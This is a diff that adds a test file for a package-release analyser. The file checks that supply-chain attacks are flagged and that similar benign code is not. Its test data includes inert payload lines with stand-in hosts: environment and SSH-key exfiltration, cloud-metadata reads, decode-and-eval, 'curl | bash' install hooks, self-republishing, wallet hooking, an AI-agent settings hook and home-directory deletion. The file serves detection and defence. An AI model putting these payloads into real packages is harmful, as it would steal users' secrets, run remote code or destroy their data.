@@ -1,0 +1,152 @@
+/** Pairs of releases in the shapes of recorded attacks, inert and with hosts that do not exist, and ordinary releases that look alike. */
+import { expect, test } from "vitest";
+import { analyse } from "../../src/core/analysis/analyse.ts";
+import type { CodeDone } from "../../src/core/analysis/code-facts.ts";
+import { codeFacts } from "../../src/core/analysis/difference.ts";
+import { instant } from "../../src/core/base/time.ts";
+import type { Facts } from "../../src/core/facts/facts.ts";
+import { capabilityAdded } from "../../src/core/signals/capability-added.ts";
+import type { SignalInput } from "../../src/core/signals/check.ts";
+import { pack } from "./archives.ts";
+
+type Files = Readonly<Record<string, string>>;
+type Manifest = Readonly<Record<string, unknown>>;
+
+const LIBRARY = "export function add(a, b) {\n  return a + b;\n}\n";
+
+function difference(before: Files, after: Files, manifest: Manifest = {}, oldManifest: Manifest = manifest): CodeDone {
+  const predecessor = { version: "1.0.0", report: analyse(pack(before, oldManifest)) };
+  const report = analyse(pack(after, { version: "1.0.1", ...manifest }));
+  // What was read for the predecessor is taken over, and changes nothing.
+  expect(analyse(pack(after, { version: "1.0.1", ...manifest }), { known: predecessor.report })).toEqual(report);
+  return codeFacts(report, predecessor, { name: "sample", version: "1.0.1" });
+}
+
+const signal = (code: CodeDone) => capabilityAdded({ facts: { code, firstSeen: instant(0), start: instant(0) } as Facts } as SignalInput);
+
+/** Each payload is added to a library that could do nothing. */
+const ATTACKS: Readonly<Record<string, readonly [chain: string, code: string]>> = {
+  "environment sent whole": [
+    "secrets-out environment",
+    `const data = { env: process.env, cwd: process.cwd() };\nfetch("https://collect.test/in", { method: "POST", body: JSON.stringify(data) });`,
+  ],
+  "environment by alias": [
+    "secrets-out environment",
+    `const { env } = process; const https = require("node:https");\nconst r = https.request("https://c.test"); r.end(JSON.stringify({ ...env }));`,
+  ],
+  "keys of ssh, put together": [
+    "secrets-out ssh",
+    `const fs = require("fs"); const d = require("os").homedir();\nconst k = fs.readFileSync(d + "/.ss" + "h/id_" + "rsa"); fetch("https://collect.test", { body: k });`,
+  ],
+  "cloud metadata": ["secrets-out metadata", `const r = await fetch("http://169.254.169.254/latest/meta-data/"); export default r;`],
+  "a list of secrets": ["secret-list ", `for (const p of [".aws/credentials", ".kube/config", ".docker/config.json"]) read(p);`],
+  "decoded and run": ["decode-run ", `const t = Buffer.from(text, "base64").toString(); eval(t);`],
+  "decoded by xor and compiled": [
+    "decode-run ",
+    `let o = ""; for (let i = 0; i < s.length; i++) o += String.fromCharCode(s.charCodeAt(i) ^ 77); module._compile(o, "x");`,
+  ],
+  "hidden eval": ["decode-run ", `globalThis["ev" + "al"](atob(text));`],
+  "fetched and run": ["fetch-run ", `fetch("https://code.test/x").then((r) => r.text()).then((t) => new Function("require", t)(require));`],
+  "a runtime fetched": ["alien-run pipe", `require("child_process").execSync("curl -fsSL https://tool.test/install | bash");`],
+  "republishes itself": ["publish-self publish", `const { execSync: run } = require("child_process"); run("npm publish --access public");`],
+  "hooks the browser for wallets": [
+    "wallet-hook ",
+    `const old = window.fetch; window.fetch = async (...a) => swap(await old(...a));\nwindow.ethereum.request({ method: "eth_sendTransaction" });`,
+  ],
+  "plants an agent hook": ["persist agent", `fs.writeFileSync(".claude/settings.json", JSON.stringify(h)); fetch("https://c.test/" + id);`],
+  "deletes the home": ["wipe home", `require("fs").rmSync(require("os").homedir(), { recursive: true, force: true });`],
+  "letters nobody sees": ["hidden-text hidden", `run("${"\u{e0100}\u{e0101}\u{e0102}\u{e0103}".repeat(8)}");`],
+  "an obfuscator's names": [
+    "unreadable hex-names",
+    Array.from({ length: 60 }, (_, n) => `const _0x${(n + 4096).toString(16)}a = _0x${(n + 8192).toString(16)}b(${n});`).join("\n"),
+  ],
+};
+
+test.each(Object.entries(ATTACKS))("seen: %s", (_what, [chain, payload]) => {
+  for (const code of [`${LIBRARY}\n${payload}`, `${payload}\n//${"x".repeat(100_000)}\n${LIBRARY}`]) {
+    const found = difference({ "index.js": LIBRARY }, { "index.js": code });
+    expect(found.chains.map(({ id, key }) => `${id} ${key}`)).toContain(chain);
+    const said = signal(found);
+    expect(said?.effect).toEqual({ kind: "review" });
+    expect(said!.evidence[0]!.source).toMatch(/^index\.js:\d+$/);
+  }
+});
+
+test("a payload appended to a bundle that can do everything is seen by what stands together", () => {
+  const bundle = `${'import http from "http";\nimport { spawn } from "child_process";\nspawn("x");\nhttp.get("http://a.test");\n'}${"let a = 1;\n".repeat(6_000)}`;
+  const found = difference({ "index.js": bundle }, { "index.js": `${bundle}\n${ATTACKS["environment by alias"]![1]}` });
+  expect(found.chains).toMatchObject([{ id: "secrets-out", key: "environment", line: 6_007 }]);
+});
+
+test("what runs on install counts alone, along scripts, shell chains, gyp and imports", () => {
+  const payload = 'require("https").get("https://c.test");';
+  for (const [files, manifest] of [
+    [{ "setup.js": payload }, { scripts: { postinstall: "echo hi && node ./setup" } }],
+    [{ "a.js": 'require("./lib/b");', "lib/b.js": payload }, { scripts: { preinstall: "npm run go", go: "node a.js" } }],
+    [{ "data.txt": payload }, { scripts: { install: "node -e \"require('./data.txt')\"" } }],
+    [{ "binding.gyp": '{"targets":[{"sources":["<!(node x.js)"]}]}', "x.js": payload }, {}],
+  ] as const) {
+    const found = difference({ "index.js": LIBRARY }, { "index.js": LIBRARY, ...files } as Files, manifest, {});
+    expect(found.install.map(({ id }) => id)).toContain("network");
+    expect(signal(found)).toMatchObject({ effect: { kind: "review" }, title: "its code talks to the network on install, 1.0.0 did not" });
+  }
+  const piped = difference({}, {}, { scripts: { postinstall: "curl -s https://x.test/i | sh" } }, {});
+  expect(piped.chains).toMatchObject([{ id: "alien-run", path: "package.json", install: true }]);
+});
+
+test("what was there before is no news, wherever it moves", () => {
+  const old = `${LIBRARY}${ATTACKS["keys of ssh, put together"]![1]}`;
+  const found = difference({ "index.js": old }, { "lib/moved.js": `\n\n${old}\n// more`, "index.js": 'export * from "./lib/moved.js";' });
+  expect([found.chains, found.added, signal(found)]).toEqual([[], [], undefined]);
+});
+
+const ORDINARY: Readonly<Record<string, string>> = {
+  "a client that reads one variable": `const key = process.env.API_KEY; export const call = (b) => fetch("https://api.test", { body: JSON.stringify({ key, b }) });`,
+  "a child with the environment": `import { spawn } from "node:child_process"; export const run = (c) => spawn(c, { env: { ...process.env, CI: "1" } });`,
+  "filtered variables": `import http from "http"; const shown = Object.keys(process.env).filter((k) => k.startsWith("APP_")); http.createServer(() => shown);`,
+  "the global object by old means": `var root = Function("return this")(); var ok = new Function("return async () => {}"); fetch("/x");`,
+  "base64 of a request": `export const auth = (u, p) => "Basic " + Buffer.from(u + ":" + p).toString("base64"); export const d = (t) => Buffer.from(t, "base64"); fetch("/x");`,
+  "templates compiled": `export function compile(source) { return new Function("data", "return " + source); }`,
+  "a list of names": `export const secrets = [".npmrc", ".env", "id_token", ".github", "awsome"];`,
+  "a progress bar of bytes": `export const table = [${Array.from({ length: 400 }, (_, n) => n).join(",")}];`,
+  "escaped letters of many alphabets": `export const letters = /[${"\\u0100-\\u0250\\u0400-\\u0500".repeat(100)}]/;`,
+  "emoji with variation selectors": `export const heart = "\u2764\ufe0f \u2764\ufe0f \ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67";`,
+  "an opened browser": `import { execFile } from "child_process"; export const open = (u) => execFile("osascript", ["-e", u]);`,
+  "a wrapped fetch": `const original = globalThis.fetch; globalThis.fetch = (...a) => trace(() => original(...a));`,
+  "its own cache removed": `import fs from "fs"; import os from "os"; import path from "path"; fs.rmSync(path.join(os.tmpdir(), "sample"), { recursive: true });`,
+  "a shell hint": `import { spawn } from "child_process"; spawn("x"); console.log("Add it to your ~/.bashrc");`,
+  "a minified module": `!function(e,t){"object"==typeof exports?module.exports=t():e.lib=t()}(this,function(){var e=/a/,n=function(t){return e.exec(t)};return{x:n,e:1e3}});`,
+  "a document with a key": `export const pem = "-----BEGIN CERTIFICATE-----" + "${"MIIB".repeat(30)}";`,
+};
+
+test.each(Object.entries(ORDINARY))("not held: %s", (_what, code) => {
+  const found = difference({ "index.js": LIBRARY }, { "index.js": `${LIBRARY}\n${code}` });
+  expect(found.chains).toEqual([]);
+  expect(signal(found)?.effect.kind ?? "note").toBe("note");
+});
+
+test("a first release is judged by what a young name does on install, and by nothing else", () => {
+  const report = (files: Files, manifest: Manifest) =>
+    codeFacts(analyse(pack(files, manifest)), undefined, { name: "sample", version: "1.0.0" });
+  const ask = (code: CodeDone, packageSince: number) =>
+    capabilityAdded({
+      facts: { code, firstSeen: instant(packageSince), start: instant(packageSince), release: { packageSince: instant(0) } },
+    } as unknown as SignalInput);
+  const payload = ATTACKS["environment sent whole"]![1];
+  const atInstall = report({ "setup.js": payload }, { scripts: { postinstall: "node setup.js" } });
+  expect(ask(atInstall, 0)?.effect).toEqual({ kind: "review" });
+  expect(ask(atInstall, 91 * 86_400_000)).toBeUndefined();
+  expect(ask(report({ "index.js": payload }, {}), 0)).toBeUndefined();
+});
+
+test("a hook that an editor runs is seen by what it says, not by its name", () => {
+  const hook = '{"version":"2.0.0","tasks":[{"runOptions":{"runOn":"folderOpen"}}]}';
+  expect(difference({}, { ".vscode/tasks.json": hook }).chains).toMatchObject([{ id: "editor-hook" }]);
+  expect(difference({}, { ".vscode/tasks.json": '{"tasks":[]}' }).chains).toEqual([]);
+});
+
+test("dependencies: imported, named in configuration, or nowhere", () => {
+  const dependencies = { imported: "1", named: "1", nowhere: "1", "@types/x": "1", old: "1" };
+  const files = { "index.js": 'import "imported/deep";', "config.json": '{"plugins":["named"]}', "README.md": "nowhere" };
+  expect(difference({}, files, { dependencies }, { dependencies: { old: "1" } }).unimported).toEqual(["nowhere"]);
+});
